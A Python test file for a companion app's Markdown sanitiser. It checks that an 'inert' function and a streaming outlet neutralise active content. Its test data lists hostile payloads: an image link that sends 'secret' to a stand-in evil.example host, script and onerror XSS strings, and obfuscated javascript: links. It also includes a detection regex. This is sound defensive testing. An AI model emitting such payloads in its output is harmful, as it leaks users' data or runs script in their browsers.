"""Words do nothing to a reader of Markdown, and look to everyone as they were said."""

import re

import pytest

from softrail.companion.voice.outlet import Outlet
from softrail.core.markdown import inert

ACTIVE = {
    "picture": "![x](https://evil.example/?q=secret)",
    "picture apart": "![x][there]",
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "comment": "<!-- x -->",
    "program as link": "[x](javascript:alert(1))",
    "in capitals": "[x](JavaScript:alert(1))",
    "in brackets": "[x](<javascript:alert(1)>)",
    "after a blank": "[x]( javascript:alert(1))",
    "by entities": "[x](java&#115;cript:alert(1))",
    "data": "[x](data:text/html,<b>)",
    "apart": "[x]: javascript:alert(1)",
    "bare": "<javascript:alert(1)>",
}
LIVE = re.compile(r"!\[|<[A-Za-z/!?]|\]\((?!https?://|mailto:|[#/)])|\]:", re.IGNORECASE)
PLAIN = [
    "a < b and c > d, wow! [sic] (really)",
    "see [the page](https://example.org) or [the file](/artifacts/1/download)",
    "{companion_name.__class__} {{7*7}} %s {0} ${x}",
    "I <3 owls",
]
CASES = [pytest.param(text, id=name) for name, text in ACTIVE.items()]


@pytest.mark.parametrize("text", CASES)
def test_nothing_is_left_that_a_reader_would_fetch_or_run(text: str) -> None:
    assert LIVE.search(text)
    assert not LIVE.search(inert(text))
    assert inert(inert(text)) == inert(text)


@pytest.mark.parametrize("text", [*CASES, *PLAIN])
def test_it_looks_as_it_was_said(text: str) -> None:
    assert inert(text).replace("\u2060", "") == text


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_words_and_links_to_pages_are_left_alone(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("text", CASES)
def test_a_stream_cut_anywhere_shows_nothing_active(text: str) -> None:
    said = f"Look: {text} and so on."
    for cut in range(len(said) + 1):
        outlet = Outlet()
        shown = outlet.take(said[:cut]) + outlet.take(said[cut:]) + outlet.end()
        assert not LIVE.search(shown)
        assert shown == outlet.text == inert(said)


def test_a_word_too_long_to_be_kept_back_hides_no_picture() -> None:
    for length in range(370, 400):
        said = "x" * length + "![x](https://evil.example)" + "y" * 400
        outlet = Outlet()
        shown = "".join(outlet.take(letter) for letter in said) + outlet.end()
        assert not LIVE.search(shown)
